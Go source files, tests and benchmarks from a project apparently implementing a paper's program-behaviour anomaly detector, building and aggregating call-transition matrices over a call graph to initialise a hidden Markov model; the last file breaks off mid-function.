func forwardDotsAVX2(alpha, a, next *float64, n, np int) {
	panic("hmm: AVX2 kernel unavailable")
}
