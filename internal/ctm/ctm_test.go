package ctm

import (
	"testing"

	"adprom/internal/ddg"
	"adprom/internal/ir"
	"adprom/internal/progen"
)

// propTol is looser than the golden-test tolerance: aggregation chains many
// floating-point redistributions.
const propTol = 1e-9

// TestInvariantsHoldOnGeneratedPrograms is the package's core property test:
// for arbitrary structured programs (branches, loops, nested calls,
// recursion, DB idioms), every per-function CTM and the aggregated pCTM
// satisfy the three §IV-C3 flow properties.
func TestInvariantsHoldOnGeneratedPrograms(t *testing.T) {
	for seed := int64(0); seed < 40; seed++ {
		p := progen.Generate(progen.Config{
			Seed:           seed,
			Functions:      6 + int(seed%5),
			UseDB:          seed%3 == 0,
			Tables:         []string{"docs"},
			AllowRecursion: seed%4 == 0,
		})
		info := ddg.Analyze(p)
		funcs, err := BuildAll(p, info)
		if err != nil {
			t.Fatalf("seed %d: BuildAll: %v", seed, err)
		}
		for name, mx := range funcs {
			if err := mx.CheckInvariants(propTol); err != nil {
				t.Errorf("seed %d func %s: %v\n%s", seed, name, err, mx)
			}
		}
		pm, err := Aggregate(p, funcs)
		if err != nil {
			t.Fatalf("seed %d: Aggregate: %v", seed, err)
		}
		if pm.HasUserSites() {
			t.Errorf("seed %d: pCTM retains pseudo-sites", seed)
		}
		if err := pm.CheckInvariants(propTol); err != nil {
			t.Errorf("seed %d: pCTM: %v", seed, err)
		}
	}
}

// TestCalleeCalledTwiceInARow exercises the pseudo-site composition the
// paper's per-callee equations do not spell out: f(); f() in one block.
func TestCalleeCalledTwiceInARow(t *testing.T) {
	b := ir.NewBuilder("twice")
	f := b.Func("f")
	fb := f.Block()
	fb.Call("puts", ir.S("in f"))
	fb.Ret()

	m := b.Func("main")
	mb := m.Block()
	mb.Invoke("f")
	mb.Invoke("f")
	mb.Ret()
	p := b.MustBuild()

	funcs, err := BuildAll(p, nil)
	if err != nil {
		t.Fatalf("BuildAll: %v", err)
	}
	pm, err := Aggregate(p, funcs)
	if err != nil {
		t.Fatalf("Aggregate: %v", err)
	}
	if err := pm.CheckInvariants(propTol); err != nil {
		t.Fatalf("invariants: %v", err)
	}
	// The only site is f's puts; the chain ε→puts→puts→ε′ must appear:
	// a self-transition of weight 1 (called twice per execution, entered and
	// exited once).
	puts := pm.SiteIndex(ir.CallSite{Func: "f", Block: 0, Stmt: 0})
	if puts < 0 {
		t.Fatalf("no puts site in pCTM:\n%s", pm)
	}
	if got := pm.At(Entry, puts); got != 1 {
		t.Errorf("ε→puts = %v, want 1", got)
	}
	if got := pm.At(puts, puts); got != 1 {
		t.Errorf("puts→puts = %v, want 1", got)
	}
	if got := pm.At(puts, Exit); got != 1 {
		t.Errorf("puts→ε′ = %v, want 1", got)
	}
}

// TestCallFreeCalleeIsEquation10 checks the paper's case 4 directly: a callee
// with no calls disappears and its caller's neighbours connect.
func TestCallFreeCalleeIsEquation10(t *testing.T) {
	b := ir.NewBuilder("case4")
	f := b.Func("noop", "x")
	fb := f.Block()
	fb.Assign("y", ir.Add(ir.V("x"), ir.I(1)))
	fb.RetVal(ir.V("y"))

	m := b.Func("main")
	mb := m.Block()
	mb.Call("printf", ir.S("a"))
	mb.InvokeTo("r", "noop", ir.I(1))
	mb.Call("printf", ir.S("b"))
	mb.Ret()
	p := b.MustBuild()

	funcs, err := BuildAll(p, nil)
	if err != nil {
		t.Fatalf("BuildAll: %v", err)
	}
	pm, err := Aggregate(p, funcs)
	if err != nil {
		t.Fatalf("Aggregate: %v", err)
	}
	a := pm.SiteIndex(ir.CallSite{Func: "main", Block: 0, Stmt: 0})
	bIdx := pm.SiteIndex(ir.CallSite{Func: "main", Block: 0, Stmt: 2})
	if got := pm.At(a, bIdx); got != 1 {
		t.Errorf("printf a → printf b = %v, want 1 (callee bypassed)\n%s", got, pm)
	}
	if err := pm.CheckInvariants(propTol); err != nil {
		t.Errorf("invariants: %v", err)
	}
}

// TestRecursiveCalleeFallsBackToPassThrough: a self-recursive function's
// in-cycle call cannot be inlined; it must degrade to a pass-through and
// still conserve flow.
func TestRecursiveCalleeFallsBackToPassThrough(t *testing.T) {
	b := ir.NewBuilder("rec")
	f := b.Func("walk", "n")
	e := f.Block()
	stop := f.Block()
	again := f.Block()
	e.If(ir.Le(ir.V("n"), ir.I(0)), stop, again)
	stop.Ret()
	again.Call("puts", ir.S("step"))
	again.Invoke("walk", ir.Sub(ir.V("n"), ir.I(1)))
	again.Call("puts", ir.S("back"))
	again.Ret()

	m := b.Func("main")
	mb := m.Block()
	mb.Invoke("walk", ir.I(3))
	mb.Ret()
	p := b.MustBuild()

	funcs, err := BuildAll(p, nil)
	if err != nil {
		t.Fatalf("BuildAll: %v", err)
	}
	pm, err := Aggregate(p, funcs)
	if err != nil {
		t.Fatalf("Aggregate: %v", err)
	}
	if pm.HasUserSites() {
		t.Fatalf("pseudo-sites survived recursion handling:\n%s", pm)
	}
	if err := pm.CheckInvariants(propTol); err != nil {
		t.Errorf("invariants: %v", err)
	}
	// With the recursive call treated as pass-through, step→back must exist.
	step := pm.SiteIndex(ir.CallSite{Func: "walk", Block: 2, Stmt: 0})
	back := pm.SiteIndex(ir.CallSite{Func: "walk", Block: 2, Stmt: 2})
	if step < 0 || back < 0 {
		t.Fatalf("sites missing:\n%s", pm)
	}
	if pm.At(step, back) <= 0 {
		t.Errorf("step→back = %v, want > 0", pm.At(step, back))
	}
}

func TestPrune(t *testing.T) {
	mx := NewMatrix("p")
	live := mx.AddSite(SiteInfo{Site: ir.CallSite{Func: "m", Block: 0, Stmt: 0}, Label: "printf"})
	dead := mx.AddSite(SiteInfo{Site: ir.CallSite{Func: "m", Block: 9, Stmt: 0}, Label: "ghost"})
	mx.Set(Entry, live, 1)
	mx.Set(live, Exit, 1)

	mx.Prune(1e-15)
	if mx.NumSites() != 1 {
		t.Fatalf("NumSites = %d, want 1", mx.NumSites())
	}
	if mx.SiteIndex(ir.CallSite{Func: "m", Block: 9, Stmt: 0}) != -1 {
		t.Error("dead site still indexed")
	}
	liveIdx := mx.SiteIndex(ir.CallSite{Func: "m", Block: 0, Stmt: 0})
	if mx.At(Entry, liveIdx) != 1 || mx.At(liveIdx, Exit) != 1 {
		t.Errorf("values lost in prune:\n%s", mx)
	}
	_ = dead
}

func TestCloneIndependence(t *testing.T) {
	mx := NewMatrix("a")
	s := mx.AddSite(SiteInfo{Site: ir.CallSite{Func: "m", Block: 0, Stmt: 0}, Label: "x"})
	mx.Set(Entry, s, 1)
	cp := mx.Clone()
	cp.Set(Entry, s, 0.5)
	cp.AddSite(SiteInfo{Site: ir.CallSite{Func: "m", Block: 1, Stmt: 0}, Label: "y"})
	if mx.At(Entry, s) != 1 || mx.NumSites() != 1 {
		t.Error("clone mutation leaked into original")
	}
}

func TestLabels(t *testing.T) {
	mx := NewMatrix("a")
	mx.AddSite(SiteInfo{Site: ir.CallSite{Func: "m", Block: 0, Stmt: 0}, Label: "printf"})
	mx.AddSite(SiteInfo{Site: ir.CallSite{Func: "m", Block: 1, Stmt: 0}, Label: "printf"})
	mx.AddSite(SiteInfo{Site: ir.CallSite{Func: "m", Block: 2, Stmt: 0}, Label: "PQexec"})
	got := mx.Labels()
	if len(got) != 2 || got[0] != "PQexec" || got[1] != "printf" {
		t.Errorf("Labels = %v", got)
	}
}
