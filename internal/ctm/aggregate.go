package ctm

import (
	"fmt"

	"adprom/internal/ir"
)

// Aggregate inlines every function's CTM into its callers in reverse
// topological order over the call graph and returns the program matrix pCTM
// rooted at the entry function (paper §IV-C3).
//
// The implementation inlines one pseudo-site at a time, which is equivalent
// to the paper's four aggregation cases but composes cleanly when a function
// is called from several sites or twice in a row:
//
//   - eq. 4/5 (caller call → callee's first calls): inflow into the site is
//     split across the callee's ε row;
//   - eq. 6/7 (callee's last calls → caller call): the callee's ε′ column
//     splits across the site's outflow;
//   - eq. 8/9 (pairs within the callee): scaled by the site's total inflow;
//   - eq. 10 generalised (call-free pass through the callee): the callee's
//     ε→ε′ mass routes the site's inflow directly to its outflow,
//     distributed proportionally so flow is conserved even with multiple
//     callers (the paper's eq. 10 over-counts in that case).
//
// Recursive call-graph cycles — which the paper does not address — are
// handled by treating in-cycle calls as pure pass-throughs, i.e. a callee
// whose matrix is not yet available behaves like eq. 10's call-free function.
func Aggregate(p *ir.Program, funcs map[string]*Matrix) (*Matrix, error) {
	order := sccOrder(p)

	agg := make(map[string]*Matrix, len(funcs))
	for _, name := range order {
		base, ok := funcs[name]
		if !ok {
			return nil, fmt.Errorf("ctm: no matrix for function %q", name)
		}
		mx := base.Clone()
		for mx.HasUserSites() {
			var target int
			var callee string
			for _, s := range mx.Sites() {
				if s.User {
					callee = s.Callee
					target = mx.SiteIndex(s.Site)
					break
				}
			}
			inlineSite(mx, target, agg[callee]) // nil callee matrix ⇒ pass-through
		}
		agg[name] = mx
	}

	pm, ok := agg[p.Entry]
	if !ok {
		return nil, fmt.Errorf("ctm: entry function %q not aggregated", p.Entry)
	}
	pm = pm.Clone()
	pm.Name = p.Name
	pm.Prune(1e-15)
	return pm, nil
}

// inlineSite splices callee matrix G in place of pseudo-site u of F. A nil G
// is a pure pass-through (the recursion fallback and eq. 10's trivial case).
func inlineSite(F *Matrix, u int, G *Matrix) {
	dim := F.Dim()
	inCol := make([]float64, dim)
	outRow := make([]float64, dim)
	var inSum, outSum float64
	for i := 0; i < dim; i++ {
		inCol[i] = F.At(i, u)
		outRow[i] = F.At(u, i)
		inSum += inCol[i]
		outSum += outRow[i]
	}
	// Disconnect u before redistributing.
	for i := 0; i < dim; i++ {
		F.Set(i, u, 0)
		F.Set(u, i, 0)
	}

	passMass := 1.0
	var gIdx []int // F-indices of G's sites, parallel to G site order
	if G != nil {
		passMass = G.At(Entry, Exit)
		gIdx = make([]int, G.NumSites())
		for k, s := range G.Sites() {
			gIdx[k] = F.AddSite(s)
		}
		// Growing F above invalidates nothing: AddSite only appends, and the
		// slices inCol/outRow still cover the pre-existing indices.

		// eq. 4/5: inflow into u continues to G's first calls.
		for i := 0; i < dim; i++ {
			if inCol[i] == 0 {
				continue
			}
			for k := range gIdx {
				if w := G.At(Entry, k+2); w > 0 {
					F.Add(i, gIdx[k], inCol[i]*w)
				}
			}
		}
		// eq. 6/7: G's last calls continue to u's successors.
		for j := 0; j < dim; j++ {
			if outRow[j] == 0 {
				continue
			}
			for k := range gIdx {
				if w := G.At(k+2, Exit); w > 0 {
					F.Add(gIdx[k], j, w*outRow[j])
				}
			}
		}
		// eq. 8/9: pairs within G, scaled by the site's total inflow.
		if inSum > 0 {
			for k := range gIdx {
				for l := range gIdx {
					if w := G.At(k+2, l+2); w > 0 {
						F.Add(gIdx[k], gIdx[l], inSum*w)
					}
				}
			}
		}
	}

	// eq. 10 generalised: call-free traversal of the callee.
	if passMass > 0 && inSum > 0 && outSum > 0 {
		for i := 0; i < dim; i++ {
			if inCol[i] == 0 {
				continue
			}
			for j := 0; j < dim; j++ {
				if outRow[j] == 0 {
					continue
				}
				F.Add(i, j, inCol[i]*passMass*outRow[j]/outSum)
			}
		}
	}

	removeSite(F, u)
}

// removeSite drops index u (already zeroed) from the matrix.
func removeSite(F *Matrix, u int) {
	k := u - 2
	site := F.sites[k].Site
	F.sites = append(F.sites[:k:k], F.sites[k+1:]...)
	delete(F.index, site)
	for s, idx := range F.index {
		if idx > k {
			F.index[s] = idx - 1
		}
	}
	F.m = append(F.m[:u:u], F.m[u+1:]...)
	for i := range F.m {
		F.m[i] = append(F.m[i][:u:u], F.m[i][u+1:]...)
	}
}

// sccOrder returns function names in reverse topological order of the call
// graph's strongly connected components (callees before callers), restricted
// to functions reachable from the entry; unreachable functions follow so
// their matrices still aggregate deterministically.
func sccOrder(p *ir.Program) []string {
	names := ir.FunctionNames(p)
	callees := make(map[string][]string, len(names))
	for _, n := range names {
		callees[n] = ir.Callees(p.Functions[n])
	}

	// Tarjan's algorithm, iterative over the small function graph.
	index := map[string]int{}
	low := map[string]int{}
	onStack := map[string]bool{}
	var stack []string
	var order []string // SCC roots in completion order = reverse topological
	counter := 0

	var strongconnect func(v string)
	strongconnect = func(v string) {
		index[v] = counter
		low[v] = counter
		counter++
		stack = append(stack, v)
		onStack[v] = true
		for _, w := range callees[v] {
			if _, seen := index[w]; !seen {
				strongconnect(w)
				if low[w] < low[v] {
					low[v] = low[w]
				}
			} else if onStack[w] && index[w] < low[v] {
				low[v] = index[w]
			}
		}
		if low[v] == index[v] {
			for {
				w := stack[len(stack)-1]
				stack = stack[:len(stack)-1]
				onStack[w] = false
				order = append(order, w)
				if w == v {
					break
				}
			}
		}
	}

	if _, ok := p.Functions[p.Entry]; ok {
		strongconnect(p.Entry)
	}
	for _, n := range names {
		if _, seen := index[n]; !seen {
			strongconnect(n)
		}
	}
	return order
}
