package ctm

import (
	"testing"

	"adprom/internal/ddg"
	"adprom/internal/progen"
)

// BenchmarkAggregate measures pCTM aggregation on a mid-sized generated
// program — the dominant pre-training step of Table VIII.
func BenchmarkAggregate(b *testing.B) {
	prog := progen.Generate(progen.Config{Seed: 9, Functions: 30, ConstructsPerFunc: 5})
	info := ddg.Analyze(prog)
	funcs, err := BuildAll(prog, info)
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := Aggregate(prog, funcs); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkBuildFunc measures per-function CTM construction (eq. 3).
func BenchmarkBuildFunc(b *testing.B) {
	prog := progen.Generate(progen.Config{Seed: 9, Functions: 30, ConstructsPerFunc: 5})
	info := ddg.Analyze(prog)
	fn := prog.Functions["f0"]
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := BuildFunc(fn, nil, info); err != nil {
			b.Fatal(err)
		}
	}
}
