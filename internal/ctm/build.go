package ctm

import (
	"fmt"

	"adprom/internal/cfg"
	"adprom/internal/ddg"
	"adprom/internal/ir"
)

// BuildFunc computes the call-transition matrix of one function (paper
// §IV-C2, eq. 3).
//
// For every pair of call sites (c_i, c_j) connected by at least one
// call-free directed path — the paper's set L — the transition probability
// is the source block's reachability times the product of the conditional
// probabilities along the path, summed over all such paths. Virtual calls
// ε (entry) and ε′ (exit) bracket the function. Consecutive calls within one
// block transition with the block's reachability (their set L is the
// singleton block). Mass reaching a DAG sink with no further calls flows to
// ε′, keeping the matrix flow-conserving on loopy CFGs (see package cfg).
//
// info supplies the _Q labels from the data-dependency analysis; it may be
// nil, in which case every site keeps its plain call name (this is exactly
// the CMarkov baseline's view of the program).
func BuildFunc(f *ir.Function, g *cfg.Graph, info *ddg.Info) (*Matrix, error) {
	if g == nil {
		var err error
		g, err = cfg.Analyze(f)
		if err != nil {
			return nil, err
		}
	}
	mx := NewMatrix(f.Name)

	// Enumerate the call sites of each reachable block, in execution order.
	type blockSites struct {
		idx []int // matrix indices
	}
	perBlock := make([]blockSites, len(f.Blocks))
	for _, blk := range f.Blocks {
		if !g.Reachable[blk.ID] {
			continue
		}
		for si, st := range blk.Stmts {
			site := ir.CallSite{Func: f.Name, Block: blk.ID, Stmt: si}
			var inf SiteInfo
			switch s := st.(type) {
			case ir.LibCall:
				label := s.Name
				if info != nil {
					label = info.Label(site, s.Name)
				}
				inf = SiteInfo{Site: site, Label: label}
			case ir.UserCall:
				inf = SiteInfo{Site: site, Label: s.Name + "()", User: true, Callee: s.Name}
			default:
				continue
			}
			perBlock[blk.ID].idx = append(perBlock[blk.ID].idx, mx.AddSite(inf))
		}
	}

	// Intra-block pairs: set L is the single block, so eq. 3 degenerates to
	// the block's reachability.
	for _, blk := range f.Blocks {
		sites := perBlock[blk.ID].idx
		for k := 0; k+1 < len(sites); k++ {
			mx.Add(sites[k], sites[k+1], g.Reach[blk.ID])
		}
	}

	// topoPos lets the per-source propagation walk only downstream blocks.
	topoPos := make([]int, len(f.Blocks))
	for i := range topoPos {
		topoPos[i] = -1
	}
	for pos, b := range g.Topo {
		topoPos[b] = pos
	}

	// propagate pushes weight w from the successors of block x toward the
	// next call site on every call-free path, crediting matrix row src.
	propagate := func(src, x int, w float64) {
		weights := make([]float64, len(f.Blocks))
		for _, s := range g.DagSuccs[x] {
			weights[s] += w * g.CondProb(x, s)
		}
		start := topoPos[x] + 1
		for pos := start; pos < len(g.Topo); pos++ {
			y := g.Topo[pos]
			wy := weights[y]
			if wy == 0 {
				continue
			}
			if sites := perBlock[y].idx; len(sites) > 0 {
				mx.Add(src, sites[0], wy)
				continue
			}
			if len(g.DagSuccs[y]) == 0 {
				mx.Add(src, Exit, wy)
				continue
			}
			for _, z := range g.DagSuccs[y] {
				weights[z] += wy * g.CondProb(y, z)
			}
		}
	}

	// ε: the virtual call before the entry block's first site.
	entrySites := perBlock[0].idx
	switch {
	case len(entrySites) > 0:
		mx.Add(Entry, entrySites[0], 1)
	case len(g.DagSuccs[0]) == 0:
		mx.Add(Entry, Exit, 1)
	default:
		propagate(Entry, 0, 1)
	}

	// Each block's last call site is a source toward downstream calls or ε′.
	for _, blk := range f.Blocks {
		sites := perBlock[blk.ID].idx
		if len(sites) == 0 {
			continue
		}
		src := sites[len(sites)-1]
		if len(g.DagSuccs[blk.ID]) == 0 {
			mx.Add(src, Exit, g.Reach[blk.ID])
			continue
		}
		propagate(src, blk.ID, g.Reach[blk.ID])
	}

	return mx, nil
}

// BuildAll computes the CTM of every function in the program. info may be
// nil for the unlabelled (CMarkov-style) view.
func BuildAll(p *ir.Program, info *ddg.Info) (map[string]*Matrix, error) {
	out := make(map[string]*Matrix, len(p.Functions))
	for _, name := range ir.FunctionNames(p) {
		f := p.Functions[name]
		g, err := cfg.Analyze(f)
		if err != nil {
			return nil, fmt.Errorf("ctm: analyzing %s: %w", name, err)
		}
		mx, err := BuildFunc(f, g, info)
		if err != nil {
			return nil, fmt.Errorf("ctm: building %s: %w", name, err)
		}
		out[name] = mx
	}
	return out, nil
}
