package ctm

import (
	"math"
	"testing"

	"adprom/internal/dataset"
	"adprom/internal/ddg"
	"adprom/internal/ir"
)

const tol = 1e-12

// entry returns the matrix value between two named keys, where "eps"/"eps'"
// are the virtual calls and anything else is a site label (which must be
// unique within the matrix for the test to use it).
func entry(t *testing.T, mx *Matrix, from, to string) float64 {
	t.Helper()
	resolve := func(name string) int {
		switch name {
		case "eps":
			return Entry
		case "eps'":
			return Exit
		}
		idx := -1
		for _, s := range mx.Sites() {
			if s.Label == name {
				if idx != -1 {
					t.Fatalf("label %q is ambiguous in %s", name, mx.Name)
				}
				idx = mx.SiteIndex(s.Site)
			}
		}
		if idx == -1 {
			t.Fatalf("label %q not found in %s:\n%s", name, mx.Name, mx)
		}
		return idx
	}
	return mx.At(resolve(from), resolve(to))
}

func checkEntries(t *testing.T, mx *Matrix, want map[[2]string]float64) {
	t.Helper()
	var total float64
	for pair, w := range want {
		got := entry(t, mx, pair[0], pair[1])
		if math.Abs(got-w) > tol {
			t.Errorf("%s: %s -> %s = %v, want %v", mx.Name, pair[0], pair[1], got, w)
		}
		total += w
	}
	// Everything not listed must be zero: the matrix total equals the sum of
	// the expected entries.
	var gotTotal float64
	for i := 0; i < mx.Dim(); i++ {
		gotTotal += mx.RowSum(i)
	}
	if math.Abs(gotTotal-total) > tol {
		t.Errorf("%s: matrix total = %v, want %v (unexpected non-zero entries)\n%s",
			mx.Name, gotTotal, total, mx)
	}
}

// TestTableI reproduces the paper's Table I: the CTM of Figure 3's main().
// printf' is the site in block 1, printf” the site in block 2; the test
// distinguishes them by site since both carry the label "printf".
func TestTableI(t *testing.T) {
	p := dataset.Fig3()
	info := ddg.Analyze(p)
	mx, err := BuildFunc(p.Functions["main"], nil, info)
	if err != nil {
		t.Fatalf("BuildFunc: %v", err)
	}

	idx := func(block int) int {
		i := mx.SiteIndex(ir.CallSite{Func: "main", Block: block, Stmt: 0})
		if i < 0 {
			t.Fatalf("no site in main b%d", block)
		}
		return i
	}
	pq := idx(3)    // PQexec
	pf1 := idx(1)   // printf'
	pf2 := idx(2)   // printf''
	fcall := idx(4) // f()

	want := map[[2]int]float64{
		{Entry, pf1}:  0.5,
		{Entry, pf2}:  0.5,
		{pf1, Exit}:   0.5,
		{pf2, Exit}:   0.25,
		{pf2, pq}:     0.25,
		{pq, fcall}:   0.25,
		{fcall, Exit}: 0.25,
	}
	var total float64
	for pair, w := range want {
		if got := mx.At(pair[0], pair[1]); math.Abs(got-w) > tol {
			t.Errorf("mCTM[%d][%d] = %v, want %v", pair[0], pair[1], got, w)
		}
		total += w
	}
	var gotTotal float64
	for i := 0; i < mx.Dim(); i++ {
		gotTotal += mx.RowSum(i)
	}
	if math.Abs(gotTotal-total) > tol {
		t.Errorf("mCTM has unexpected non-zero entries (total %v, want %v)\n%s", gotTotal, total, mx)
	}
	if err := mx.CheckInvariants(tol); err != nil {
		t.Errorf("Table I invariants: %v", err)
	}
}

// TestTableII reproduces the paper's Table II: the CTM of f(), including the
// _Q label on the printf that outputs the query result (the paper's
// printf_Q10; function-local block ids make it printf_Q3 here).
func TestTableII(t *testing.T) {
	p := dataset.Fig3()
	info := ddg.Analyze(p)
	mx, err := BuildFunc(p.Functions["f"], nil, info)
	if err != nil {
		t.Fatalf("BuildFunc: %v", err)
	}
	checkEntries(t, mx, map[[2]string]float64{
		{"eps", "eps'"}:       0.25,
		{"eps", "printf"}:     0.5,
		{"eps", "printf_Q3"}:  0.25,
		{"printf", "eps'"}:    0.5,
		{"printf_Q3", "eps'"}: 0.25,
	})
	if err := mx.CheckInvariants(tol); err != nil {
		t.Errorf("Table II invariants: %v", err)
	}
}

// TestFig3PCTM checks the full aggregation (§IV-C3): inlining fCTM into mCTM
// via the equivalents of eqs. 4–10 yields the program matrix with the values
// hand-derived from the paper's tables.
func TestFig3PCTM(t *testing.T) {
	p := dataset.Fig3()
	info := ddg.Analyze(p)
	funcs, err := BuildAll(p, info)
	if err != nil {
		t.Fatalf("BuildAll: %v", err)
	}
	pm, err := Aggregate(p, funcs)
	if err != nil {
		t.Fatalf("Aggregate: %v", err)
	}
	if pm.HasUserSites() {
		t.Fatalf("pCTM still has pseudo-sites:\n%s", pm)
	}

	idx := func(fn string, block int) int {
		i := pm.SiteIndex(ir.CallSite{Func: fn, Block: block, Stmt: 0})
		if i < 0 {
			t.Fatalf("no site %s b%d in pCTM:\n%s", fn, block, pm)
		}
		return i
	}
	pf1 := idx("main", 1) // printf'
	pf2 := idx("main", 2) // printf''
	pq := idx("main", 3)  // PQexec
	fpf := idx("f", 1)    // f's plain printf
	fq := idx("f", 3)     // f's printf_Q3

	want := map[[2]int]float64{
		{Entry, pf1}: 0.5,
		{Entry, pf2}: 0.5,
		{pf1, Exit}:  0.5,
		{pf2, Exit}:  0.25,
		{pf2, pq}:    0.25,
		{pq, fpf}:    0.125,  // eq. 4: 0.25 × 0.5
		{pq, fq}:     0.0625, // eq. 4: 0.25 × 0.25
		{pq, Exit}:   0.0625, // eq. 10: 0.25 × 0.25 pass-through
		{fpf, Exit}:  0.125,  // eq. 6: 0.5 × 0.25
		{fq, Exit}:   0.0625, // eq. 6: 0.25 × 0.25
	}
	var total float64
	for pair, w := range want {
		if got := pm.At(pair[0], pair[1]); math.Abs(got-w) > tol {
			t.Errorf("pCTM[%d][%d] = %v, want %v", pair[0], pair[1], got, w)
		}
		total += w
	}
	var gotTotal float64
	for i := 0; i < pm.Dim(); i++ {
		gotTotal += pm.RowSum(i)
	}
	if math.Abs(gotTotal-total) > tol {
		t.Errorf("pCTM has unexpected entries (total %v, want %v)\n%s", gotTotal, total, pm)
	}

	// The three §IV-C3 properties.
	if err := pm.CheckInvariants(tol); err != nil {
		t.Errorf("pCTM invariants: %v", err)
	}

	// The labelled site survives aggregation with its label intact.
	if got := pm.SiteAt(fq).Label; got != "printf_Q3" {
		t.Errorf("aggregated label = %q, want printf_Q3", got)
	}
}
