// Package ctm builds AD-PROM's call-transition matrices: the per-function
// CTMs of §IV-C2 (transition probability of each call pair, eq. 3) and their
// call-graph aggregation into the program matrix pCTM of §IV-C3
// (eqs. 4–10), which initialises the hidden Markov model.
//
// Matrices are keyed by call *site*, not call name: the paper's Table I
// distinguishes printf' from printf” in main(). Each site carries an
// observation label — the call name, or its _Q[bid] form when the
// data-dependency analysis marked the site as an output of targeted data.
// User-function calls appear as pseudo-sites that aggregation inlines away.
package ctm

import (
	"fmt"
	"math"
	"sort"
	"strings"

	"adprom/internal/ir"
)

// Row/column indices of the two virtual calls. Site k occupies index k+2.
const (
	// Entry is the virtual call ε at function entry.
	Entry = 0
	// Exit is the virtual call ε′ at function exit.
	Exit = 1
)

// SiteInfo describes one matrix row/column beyond ε and ε′.
type SiteInfo struct {
	// Site is the call's location; unique across the program.
	Site ir.CallSite
	// Label is the observation symbol emitted when this site executes.
	Label string
	// User marks a pseudo-site for a user-function call; Callee names it.
	User   bool
	Callee string
}

// Matrix is a call-transition matrix. Values are joint path probabilities:
// m[i][j] is the probability that one execution of the function transitions
// from call i to call j with no other call in between (eq. 3 summed over all
// call-free paths).
type Matrix struct {
	// Name identifies the function (or program, after aggregation).
	Name  string
	sites []SiteInfo
	index map[ir.CallSite]int
	m     [][]float64
}

// NewMatrix returns an empty matrix holding only ε and ε′.
func NewMatrix(name string) *Matrix {
	mx := &Matrix{Name: name, index: map[ir.CallSite]int{}}
	mx.m = [][]float64{make([]float64, 2), make([]float64, 2)}
	return mx
}

// NumSites returns the number of call sites (excluding ε/ε′).
func (mx *Matrix) NumSites() int { return len(mx.sites) }

// Dim returns the full dimension including ε and ε′.
func (mx *Matrix) Dim() int { return len(mx.sites) + 2 }

// Sites returns the site descriptors in index order; index k corresponds to
// matrix row/column k+2.
func (mx *Matrix) Sites() []SiteInfo { return mx.sites }

// SiteIndex returns the matrix index (≥2) of a site, or -1.
func (mx *Matrix) SiteIndex(site ir.CallSite) int {
	if i, ok := mx.index[site]; ok {
		return i + 2
	}
	return -1
}

// SiteAt returns the descriptor for matrix index i (which must be ≥2).
func (mx *Matrix) SiteAt(i int) SiteInfo { return mx.sites[i-2] }

// AddSite appends a site (idempotently: re-adding an existing site returns
// its index) and returns its matrix index.
func (mx *Matrix) AddSite(info SiteInfo) int {
	if i, ok := mx.index[info.Site]; ok {
		return i + 2
	}
	mx.index[info.Site] = len(mx.sites)
	mx.sites = append(mx.sites, info)
	for i := range mx.m {
		mx.m[i] = append(mx.m[i], 0)
	}
	mx.m = append(mx.m, make([]float64, len(mx.sites)+2))
	return len(mx.sites) + 1
}

// At returns m[i][j].
func (mx *Matrix) At(i, j int) float64 { return mx.m[i][j] }

// Add accumulates v into m[i][j].
func (mx *Matrix) Add(i, j int, v float64) { mx.m[i][j] += v }

// Set stores v at m[i][j].
func (mx *Matrix) Set(i, j int, v float64) { mx.m[i][j] = v }

// RowSum returns Σ_j m[i][j].
func (mx *Matrix) RowSum(i int) float64 {
	var s float64
	for _, v := range mx.m[i] {
		s += v
	}
	return s
}

// ColSum returns Σ_i m[i][j].
func (mx *Matrix) ColSum(j int) float64 {
	var s float64
	for i := range mx.m {
		s += mx.m[i][j]
	}
	return s
}

// Clone deep-copies the matrix.
func (mx *Matrix) Clone() *Matrix {
	cp := &Matrix{
		Name:  mx.Name,
		sites: append([]SiteInfo(nil), mx.sites...),
		index: make(map[ir.CallSite]int, len(mx.index)),
		m:     make([][]float64, len(mx.m)),
	}
	for k, v := range mx.index {
		cp.index[k] = v
	}
	for i, row := range mx.m {
		cp.m[i] = append([]float64(nil), row...)
	}
	return cp
}

// UserSites returns the matrix indices of pseudo-sites calling callee, in
// ascending order.
func (mx *Matrix) UserSites(callee string) []int {
	var out []int
	for k, s := range mx.sites {
		if s.User && s.Callee == callee {
			out = append(out, k+2)
		}
	}
	return out
}

// HasUserSites reports whether any user pseudo-sites remain (a fully
// aggregated matrix has none).
func (mx *Matrix) HasUserSites() bool {
	for _, s := range mx.sites {
		if s.User {
			return true
		}
	}
	return false
}

// CheckInvariants validates the three pCTM properties of §IV-C3 within tol:
// the ε row sums to 1, the ε′ column sums to 1, and each call site conserves
// flow (inflow equals outflow).
func (mx *Matrix) CheckInvariants(tol float64) error {
	if d := math.Abs(mx.RowSum(Entry) - 1); d > tol {
		return fmt.Errorf("ctm %s: entry row sums to %v", mx.Name, mx.RowSum(Entry))
	}
	if d := math.Abs(mx.ColSum(Exit) - 1); d > tol {
		return fmt.Errorf("ctm %s: exit column sums to %v", mx.Name, mx.ColSum(Exit))
	}
	for i := 2; i < mx.Dim(); i++ {
		in, out := mx.ColSum(i), mx.RowSum(i)
		if math.Abs(in-out) > tol {
			return fmt.Errorf("ctm %s: site %s inflow %v != outflow %v",
				mx.Name, mx.sites[i-2].Site, in, out)
		}
	}
	return nil
}

// Prune removes sites whose total flow is below tol (dead code surviving the
// static walk), compacting the matrix.
func (mx *Matrix) Prune(tol float64) {
	keep := make([]bool, len(mx.sites))
	n := 0
	for k := range mx.sites {
		if mx.RowSum(k+2)+mx.ColSum(k+2) > tol {
			keep[k] = true
			n++
		}
	}
	if n == len(mx.sites) {
		return
	}
	remap := make([]int, mx.Dim())
	remap[0], remap[1] = 0, 1
	newSites := make([]SiteInfo, 0, n)
	newIndex := make(map[ir.CallSite]int, n)
	for k, s := range mx.sites {
		if !keep[k] {
			remap[k+2] = -1
			continue
		}
		remap[k+2] = len(newSites) + 2
		newIndex[s.Site] = len(newSites)
		newSites = append(newSites, s)
	}
	nm := make([][]float64, n+2)
	for i := range nm {
		nm[i] = make([]float64, n+2)
	}
	for i := 0; i < mx.Dim(); i++ {
		if remap[i] < 0 {
			continue
		}
		for j := 0; j < mx.Dim(); j++ {
			if remap[j] < 0 {
				continue
			}
			nm[remap[i]][remap[j]] = mx.m[i][j]
		}
	}
